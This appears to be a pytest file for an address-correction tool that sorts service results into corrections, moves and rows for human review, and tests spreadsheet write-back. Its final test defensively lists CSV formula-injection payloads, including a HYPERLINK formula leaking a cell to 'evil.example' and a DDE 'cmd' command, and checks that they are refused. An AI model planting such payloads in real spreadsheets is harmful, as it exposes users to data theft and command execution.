"""Which values of a batch result are corrections or moves, and which rows need a human (§2.4, §2.5)."""

from __future__ import annotations

import pandas as pd
import pytest

from fileio.address_service.corrections import (
    CORRECTION_KINDS,
    DOUBLE,
    HUMAN_QSTATS,
    HUMAN_REASONS,
    NOT_RETURNED,
    REJECTED,
    classify,
    review_reasons,
    writeback_edits,
)
from fileio.writeback.report import SkippedChange
from fileio.writeback_policy import FORMULA_REFUSED

# ShortReport positions (§2.5): 8 StreetName, 9 HouseNo, 10 HouseNoAddition, 12 ZIPCode, 14 TownName.
BLANK = "-" * 24


def report(**marks: str) -> str:
    positions = {"street": 7, "house": 8, "addition": 9, "zip": 11, "town": 13}
    chars = list(BLANK)
    for name, char in marks.items():
        chars[positions[name]] = char
    return "".join(chars)


def merged(rows: list[dict[str, str]]) -> pd.DataFrame:
    """Merged results as merge_results lays them out: the service's fields, the input's as <Field>_in."""
    frame = pd.DataFrame(rows).fillna("")
    frame.insert(0, "RecordId", range(1, len(frame) + 1))
    frame["ReturnedByService"] = (
        frame.pop("returned").map({"": True, "no": False}) if "returned" in frame else True
    )
    return frame


def row(qstat: str, short_report: str = BLANK, correction_type: str = "1", **values: str) -> dict[str, str]:
    given = {
        "Streetname_in": "Lindenstrasse",
        "HouseNo_in": "12",
        "ZIPCode_in": "6010",
        "TownName_in": "Kriens",
    }
    result = {key.removesuffix("_in"): value for key, value in given.items()}
    result.update(values)
    return {"QSTAT": qstat, "ShortReport": short_report, "CorrectionType": correction_type, **given, **result}


def test_a_hit_with_a_changed_street_is_a_correction_and_needs_no_human() -> None:
    corrections = classify(merged([row("1", report(street="3"), Streetname="Lindenweg")]))

    assert corrections.corrected_mask.loc[1].to_dict() == {
        "Streetname": True,
        "HouseNo": False,
        "ZIPCode": False,
        "TownName": False,
    }
    assert corrections.needs_human.loc[1] == ""
    assert corrections.by_kind() == {"street": 1, "house number": 0, "postcode": 0, "town": 0, "P.O. box": 0}


@pytest.mark.parametrize(
    ("mark", "corrected"), [("2", True), ("3", True), ("4", True), ("1", False), ("0", False)]
)
def test_only_the_correction_marks_make_a_correction(mark: str, corrected: bool) -> None:
    corrections = classify(merged([row("1", report(town=mark), TownName="Kriens LU")]))

    assert bool(corrections.corrected_mask.at[1, "TownName"]) is corrected


def test_the_marks_are_a_setting() -> None:
    frame = merged([row("1", report(town="2"), TownName="Kriens LU")])

    assert not classify(frame, marks="3").corrected_mask.at[1, "TownName"]
    assert classify(frame, marks="23").corrected_mask.at[1, "TownName"]


def test_a_value_equal_to_the_given_one_or_empty_is_no_correction() -> None:
    corrections = classify(
        merged([row("1", report(street="3", town="3"), Streetname=" Lindenstrasse ", TownName="")])
    )

    assert not corrections.corrected_mask.loc[1].any()


def test_a_relocation_hit_is_a_move_for_a_human_and_no_correction() -> None:
    corrections = classify(
        merged(
            [
                row(
                    "4",
                    report(street="5", zip="5", town="5"),
                    Streetname="Zentralstrasse",
                    ZIPCode="2502",
                    TownName="Biel/Bienne",
                )
            ]
        )
    )

    assert not corrections.corrected_mask.loc[1].any()
    assert corrections.moved_mask.loc[1].to_dict() == {
        "Streetname": True,
        "HouseNo": False,
        "ZIPCode": True,
        "TownName": True,
    }
    assert corrections.needs_human.loc[1] == HUMAN_QSTATS["4"]
    assert corrections.moves()["new address known (QSTAT 4)"] == 1


@pytest.mark.parametrize("qstat", ["25", "26", "27", "50", "51"])
def test_statuses_without_a_confirmed_addressee_need_a_human_and_are_never_corrected(qstat: str) -> None:
    corrections = classify(merged([row(qstat, report(street="3"), Streetname="Lindenweg")]))

    assert corrections.needs_human.loc[1] == HUMAN_QSTATS[qstat]
    assert not corrections.corrected_mask.loc[1].any()
    assert not corrections.moved_mask.loc[1].any()


def test_doubles_unknown_codes_and_rows_not_returned_need_a_human() -> None:
    frame = merged(
        [
            row("K"),
            row("1", Double_DSTAT="F"),
            row("99"),
            {**row(""), "returned": "no"},
        ]
    )

    reasons = classify(frame).needs_human.tolist()

    assert reasons == [DOUBLE, DOUBLE, "unknown QSTAT", NOT_RETURNED]
    counts = classify(frame).human_reasons()
    assert list(counts) == list(HUMAN_REASONS)
    assert counts[DOUBLE] == 2 and counts[REJECTED] == 0


def test_every_kind_and_reason_is_counted_even_when_none_occurs() -> None:
    corrections = classify(merged([row("1")]))

    assert list(corrections.by_kind()) == list(CORRECTION_KINDS)
    assert set(corrections.moves().values()) == {0}
    assert corrections.corrected_rows() == 0


def test_a_house_number_addition_stays_in_the_house_number_when_the_file_has_no_column_for_it() -> None:
    frame = merged(
        [
            row("1", report(house="1", addition="2"), HouseNo_in="14a", HouseNo="14", HouseNoAddition="a"),
            row("1", report(house="1", addition="2"), HouseNo_in="14 a", HouseNo="14", HouseNoAddition="a"),
        ]
    )

    corrections = classify(frame)

    assert corrections.corrected.loc[:, "HouseNo"].tolist() == ["14a", "14a"]
    assert corrections.corrected_mask["HouseNo"].tolist() == [False, True]


def test_edits_follow_the_policy_and_name_the_customers_columns() -> None:
    frame = merged(
        [
            row("1", report(street="3"), Streetname="Lindenweg"),
            row("4", report(town="5"), TownName="Luzern", ZIPCode="6003"),
        ]
    )
    corrections = classify(frame)
    columns = {"Streetname": "Strasse", "HouseNo": "Nr", "ZIPCode": "PLZ", "TownName": "Ort"}

    assert writeback_edits(corrections, columns, "corrections")[0] == {1: {"Strasse": "Lindenweg"}}
    assert writeback_edits(corrections, columns, "moves")[0] == {2: {"PLZ": "6003", "Ort": "Luzern"}}
    assert set(writeback_edits(corrections, columns, "all")[0]) == {1, 2}
    edits, kept = writeback_edits(corrections, columns, "none")
    assert edits == {}
    assert [(skip.row, skip.field, skip.answer, skip.given, skip.answered) for skip in kept] == [
        (1, "Streetname", "QSTAT 1, CorrectionType 1", "Lindenstrasse", "Lindenweg"),
        (2, "ZIPCode", "QSTAT 4, CorrectionType 1", "6010", "6003"),
        (2, "TownName", "QSTAT 4, CorrectionType 1", "Kriens", "Luzern"),
    ]
    assert (
        kept[0].reason
        == "corrections are written back only with --apply corrections or all (not --apply none)"
    )
    assert kept[1].reason == "a move: written back only with --apply moves or all (not --apply none)"


def test_a_field_without_a_column_in_the_file_is_listed_not_written() -> None:
    corrections = classify(merged([row("1", report(zip="3"), ZIPCode="6011")]))

    edits, skipped = writeback_edits(corrections, {"Streetname": "Strasse", "TownName": "Ort"}, "corrections")

    assert edits == {}
    assert skipped == [SkippedChange(1, "ZIPCode", "the file has no column for it")]


def test_a_split_street_line_gets_street_and_number_back_in_one_cell() -> None:
    frame = merged([row("1", report(street="3"), Streetname="Lindenweg", HouseNo_in="12", HouseNo="12")])
    corrections = classify(frame)
    columns = {"Streetname": "Adresse", "ZIPCode": "PLZ", "TownName": "Ort"}

    edits, skipped = writeback_edits(corrections, columns, "corrections", split_lines={1: "Lindenstr. 12"})

    assert edits == {1: {"Adresse": "Lindenweg 12"}}
    assert skipped == []


def test_review_reasons_list_every_input_row_with_rejected_rows_in_place() -> None:
    corrections = classify(merged([row("1"), row("4", report(town="5"), TownName="Luzern")]))
    corrections.needs_human.index = pd.Index([1, 3], name="RecordId")

    reasons = review_reasons(corrections, [2], policy="all")

    assert reasons.index.tolist() == [1, 2, 3]
    assert reasons.tolist() == ["", REJECTED, HUMAN_QSTATS["4"] + ": new address written back"]


def test_a_street_cell_that_held_a_po_box_line_is_left_as_it_was() -> None:
    frame = merged([row("1", report(street="4"), Streetname_in="", Streetname="Hauptstrasse", HouseNo_in="")])
    corrections = classify(frame)

    edits, skipped = writeback_edits(
        corrections, {"Streetname": "Adresse", "TownName": "Ort"}, "all", split_lines={1: "Postfach 12"}
    )

    assert edits == {}
    assert skipped == [
        SkippedChange(
            1,
            "HouseNo",
            "the ShortReport does not mark this field as a correction",
            answer="QSTAT 1, CorrectionType 1",
            given="",
            answered="12",
        ),
        SkippedChange(1, "Streetname", "the street cell held a P.O. box or c/o line"),
    ]


@pytest.mark.parametrize(
    ("qstat", "correction_type", "written"),
    [
        ("1", "1", True),
        ("2", "1", True),
        ("3", "1.0", True),
        ("1", "0", False),
        ("1", "", False),
        ("25", "1", False),
        ("50", "1", False),
        ("51", "1", False),
        ("K", "1", False),
        ("4", "1", False),
    ],
)
def test_only_a_hit_whose_correction_type_requires_it_is_written_back(
    qstat: str, correction_type: str, written: bool
) -> None:
    frame = merged([row(qstat, report(town="3"), correction_type, TownName="Kriens LU")])
    corrections = classify(frame)

    edits, skipped = writeback_edits(corrections, {"TownName": "Ort"}, "corrections")

    assert edits == ({1: {"Ort": "Kriens LU"}} if written else {})
    if written:
        assert skipped == []
    else:
        [kept] = skipped
        kind = correction_type.split(".")[0] or "none"
        assert (kept.field, kept.given, kept.answered) == ("TownName", "Kriens", "Kriens LU")
        assert kept.answer == f"QSTAT {qstat}, CorrectionType {kind}"


def test_results_without_a_correction_type_write_no_correction_back() -> None:
    frame = merged([row("1", report(street="3"), Streetname="Lindenweg")]).drop(columns="CorrectionType")
    corrections = classify(frame)

    edits, [kept] = writeback_edits(corrections, {"Streetname": "Strasse"}, "all")

    assert edits == {}
    assert kept.answer == "QSTAT 1, CorrectionType none"
    assert kept.reason == "the CorrectionType does not say a correction is required"


FORMULAS = {
    "Streetname": '=HYPERLINK("http://evil.example/?leak="&A1,"Lindenstrasse")',
    "TownName": "=cmd|'/C calc'!A0",
    "HouseNo": "+1+1",
    "ZIPCode": "@SUM(1+1)",
}


@pytest.mark.parametrize("split", [False, True])
def test_a_correction_that_starts_like_a_formula_is_listed_never_written(split: bool) -> None:
    marks = report(street="3", house="3", zip="3", town="3")
    # A leading minus too, even where a house number might have one.
    second = row("1", report(house="3", town="3"), HouseNo="-2+3", TownName="\tLuzern")
    frame = merged([row("1", marks, **FORMULAS), second])
    corrections = classify(frame)
    fields = {"Streetname": "Strasse", "HouseNo": "Nr", "ZIPCode": "PLZ", "TownName": "Ort"}
    if split:
        fields = {"Streetname": "Adresse", "ZIPCode": "PLZ", "TownName": "Ort"}

    edits, skipped = writeback_edits(
        corrections, fields, "corrections", split_lines={1: "Lindenstrasse 12"} if split else None
    )

    # A split street cell gets the street and number it held: every part of its correction was refused.
    assert edits == ({1: {"Adresse": "Lindenstrasse 12"}} if split else {})
    given = {"Streetname": "Lindenstrasse", "HouseNo": "12", "ZIPCode": "6010", "TownName": "Kriens"}
    answer = "QSTAT 1, CorrectionType 1"
    expected = [
        SkippedChange(1, field, FORMULA_REFUSED, answer, given[field], value)
        for field, value in FORMULAS.items()
    ]
    expected.append(SkippedChange(2, "HouseNo", FORMULA_REFUSED, answer, "12", "-2+3"))
    expected.append(SkippedChange(2, "TownName", FORMULA_REFUSED, answer, "Kriens", "\tLuzern"))
    assert sorted(skipped, key=repr) == sorted(expected, key=repr)
